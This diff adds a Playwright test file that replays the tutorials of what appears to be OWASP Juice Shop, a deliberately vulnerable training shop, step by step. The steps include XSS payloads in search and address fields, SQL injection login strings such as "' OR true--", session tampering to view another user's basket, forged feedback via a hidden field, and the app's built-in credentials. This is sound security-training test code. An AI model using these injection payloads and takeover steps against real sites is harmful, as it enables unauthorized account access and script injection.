@@ -1,0 +1,301 @@
+import type { Page } from 'playwright-core';
+import { expect } from 'vitest';
+import type { ChallengeKey } from '../../../server/contract/challenge-keys.ts';
+import { nextDialog } from '../../exploits/dialogs.ts';
+import { xssPayload } from '../../exploits/support.ts';
+import { logInAs } from '../visits.ts';
+import { all, click, type Deed, type Deeds, fill, goTo, next, nothingToDo, openTools, press, wait } from './tour.ts';
+
+/** What a learner does in a tutorial, hint by hint, and what it leads to. */
+export interface Tour {
+  readonly name: string;
+  readonly leadsTo: string;
+  /** What was done before; nobody is logged in. */
+  readonly prepare?: Deed | undefined;
+  readonly deeds: Deeds;
+  readonly solves: ChallengeKey;
+}
+
+const search = '#searchQuery input';
+const sendSearch = press(search, 'Enter');
+const logIn = click('#loginButton');
+const loggedInAsJim: Deed = (page) => logInAs(page, 'jim@juice-sh.op', 'ncc-1701');
+
+const bonusPayload =
+  '<iframe width="100%" height="166" scrolling="no" frameborder="no" allow="autoplay" src="https://w.soundcloud.com/player/?url=' +
+  'https%3A//api.soundcloud.com/tracks/771984076&color=%23ff5500&auto_play=true&hide_related=false&show_comments=true' +
+  '&show_user=true&show_reposts=false&show_teaser=true"></iframe>';
+
+/** The tutorials of the challenges, in their order. */
+export const tours: readonly Tour[] = [
+  {
+    name: 'Score Board',
+    leadsTo: 'the score board',
+    deeds: [wait(10), next, next, openTools, goTo('score-board'), next],
+    solves: 'scoreBoardChallenge',
+  },
+  {
+    name: 'DOM XSS',
+    leadsTo: 'a script that runs in the page',
+    deeds: [
+      wait(8),
+      fill(search, 'owasp'),
+      sendSearch,
+      next,
+      next,
+      next,
+      fill(search, '<h1>owasp'),
+      sendSearch,
+      next,
+      next,
+      fill(search, '<script>alert(xss)</script>'),
+      sendSearch,
+      next,
+      fill(search, xssPayload),
+      alerting(sendSearch),
+      next,
+      next,
+    ],
+    solves: 'localXssChallenge',
+  },
+  {
+    name: 'Bonus Payload',
+    leadsTo: 'the music player',
+    deeds: [wait(10), fill(search, bonusPayload), sendSearch, next],
+    solves: 'xssBonusChallenge',
+  },
+  {
+    name: 'Privacy Policy',
+    leadsTo: 'the policy',
+    deeds: [
+      all(
+        click('#navbarAccount'),
+        click('#navbarLoginButton'),
+        fill('#email', 'jim@juice-sh.op'),
+        fill('#password', 'ncc-1701'),
+        logIn,
+      ),
+      click('#navbarAccount'),
+      all(click('[aria-label="Show Privacy and Security Menu"]'), click('[aria-label="Go to privacy policy page"]')),
+      next,
+    ],
+    solves: 'privacyPolicyChallenge',
+  },
+  {
+    name: 'Reflected XSS',
+    leadsTo: 'a script in the number of an order',
+    deeds: [
+      loggedInAsJim,
+      all(
+        click('#navbarAccount'),
+        click('[aria-label="Show Orders and Payment Menu"]'),
+        click('[aria-label="Go to saved address page"]'),
+      ),
+      click('[aria-label="Add a new address"]'),
+      submitAddress('Riverside'),
+      all(
+        (at) => at.getByText('Your address in Riverside is saved.').waitFor(),
+        click('[aria-label="Add a new address"]'),
+      ),
+      submitAddress(xssPayload),
+      placeOrder,
+      click('a[href*="track-result/new"]'),
+      alerting(goTo(`track-result/new?id=${xssPayload}`)),
+      next,
+    ],
+    solves: 'reflectedXssChallenge',
+  },
+  {
+    name: 'Exposed credentials',
+    leadsTo: 'the forgotten account',
+    deeds: [
+      nothingToDo,
+      openTools,
+      next,
+      next,
+      goTo('login'),
+      fill('#email', 'testing@juice-sh.op'),
+      fill('#password', 'IamUsedForTesting'),
+      logIn,
+      next,
+    ],
+    solves: 'exposedCredentialsChallenge',
+  },
+  {
+    name: 'Login Admin',
+    leadsTo: 'the account of the administrator',
+    prepare: loggedInAsJim,
+    deeds: [
+      all(click('#navbarAccount'), click('#navbarLogoutButton')),
+      goTo('login'),
+      next,
+      next,
+      fill('#email', "'"),
+      fill('#password', 'anything'),
+      logIn,
+      all((at) => at.locator('app-login').getByText('[object Object]').waitFor(), next),
+      next,
+      next,
+      fill('#email', "' OR true"),
+      // As somebody does who has both hands on the keyboard.
+      press('#password', 'Enter'),
+      next,
+      next,
+      next,
+      fill('#email', "' OR true--"),
+      logIn,
+      click('#navbarAccount'),
+      next,
+    ],
+    solves: 'loginAdminChallenge',
+  },
+  {
+    name: 'Admin Section',
+    leadsTo: 'the administration',
+    deeds: [
+      (at) => logInAs(at, 'admin@juice-sh.op', 'admin123'),
+      click('[aria-label="Open Sidenav"]'),
+      wait(8),
+      wait(8),
+      wait(8),
+      wait(8),
+      all(click('[aria-label="Close the menu"]'), wait(4)),
+      wait(10),
+      goTo('admin'),
+      goTo('administration'),
+      next,
+      next,
+      next,
+      next,
+    ],
+    solves: 'adminSectionChallenge',
+  },
+  {
+    name: 'Password Strength',
+    leadsTo: 'the real password of the administrator',
+    deeds: [
+      nothingToDo,
+      next,
+      goTo('login'),
+      fill('#email', 'admin@juice-sh.op'),
+      fill('#password', 'letmein'),
+      fill('#password', 'admin'),
+      fill('#password', 'admin1'),
+      fill('#password', 'admin12'),
+      fill('#password', 'admin123'),
+      logIn,
+      next,
+    ],
+    solves: 'weakPasswordChallenge',
+  },
+  {
+    name: 'View Basket',
+    leadsTo: 'the basket of somebody else',
+    deeds: [
+      next,
+      loggedInAsJim,
+      goTo('basket'),
+      next,
+      next,
+      openTools,
+      (at) => at.evaluate(() => sessionStorage.setItem('bid', '1')),
+      next,
+      all(goTo('about'), (at) => at.locator('app-about').waitFor(), goTo('basket')),
+      next,
+    ],
+    solves: 'basketAccessChallenge',
+  },
+  {
+    name: 'Forged Feedback',
+    leadsTo: 'feedback in the name of somebody else',
+    deeds: [goTo('contact'), next, next, next, openTools, next, revealUserId('2'), sendFeedback, next],
+    solves: 'forgedFeedbackChallenge',
+  },
+  {
+    name: 'Login Jim',
+    leadsTo: 'the account of Jim',
+    deeds: takeOver('jim@juice-sh.op', 'search'),
+    solves: 'loginJimChallenge',
+  },
+  {
+    name: 'Login Bender',
+    leadsTo: 'the account of Bender',
+    deeds: takeOver('bender@juice-sh.op', 'about'),
+    solves: 'loginBenderChallenge',
+  },
+];
+
+/** Does what has the payload run. */
+function alerting(deed: Deed): Deed {
+  return async (page) => {
+    const alerted = nextDialog(page);
+    await deed(page);
+    expect(await alerted).toBe('xss');
+  };
+}
+function submitAddress(city: string): Deed {
+  return async (page) => {
+    await page.fill('#address-country', 'Riverland');
+    await page.fill('#address-name', 'Jim');
+    await page.fill('#address-mobile-number', '1234567890');
+    await page.fill('#address-zip-code', '12345');
+    await page.fill('#address', 'Bridge 1');
+    await page.fill('#address-city', city);
+    await page.click('#submitButton');
+  };
+}
+
+/** From the shop window through the checkout; Jim has a card. */
+async function placeOrder(page: Page): Promise<void> {
+  await goTo('search')(page);
+  await page.getByLabel('Add to Basket').first().click();
+  await page.locator('.mat-mdc-snack-bar-container').waitFor();
+  await goTo('basket')(page);
+  await page.click('#checkoutButton');
+  await page.getByRole('radio').first().click();
+  await page.getByLabel('Proceed to payment selection').click();
+  await page.getByRole('radio').first().click();
+  await page.getByLabel('Proceed to delivery method selection').click();
+  await page.getByRole('radio').first().click();
+  await page.getByLabel('Proceed to review').click();
+  await page.getByLabel('Complete your purchase').click();
+}
+
+function takeOver(email: string, leak: string): Deeds {
+  return [
+    nothingToDo,
+    goTo('login'),
+    next,
+    next,
+    next,
+    goTo(leak),
+    goTo('login'),
+    fill('#email', email),
+    fill('#password', 'wrong'),
+    logIn,
+    next,
+    fill('#email', `${email}'--`),
+    logIn,
+    next,
+  ];
+}
+
+function revealUserId(id: string): Deed {
+  return (page) =>
+    page.evaluate((value) => {
+      const field = document.querySelector<HTMLInputElement>('#userId');
+      if (field !== null) {
+        field.hidden = false;
+        field.value = value;
+      }
+    }, id);
+}
+
+async function sendFeedback(page: Page): Promise<void> {
+  await page.fill('#comment', 'Forged');
+  await page.press('#rating-input', 'End');
+  const question = (await page.textContent('#captcha')) ?? '';
+  // A term such as 3*4-1, asked by the shop.
+  await page.fill('#captchaControl', String(await page.evaluate(question)));
+  await page.click('#submitButton');
+}
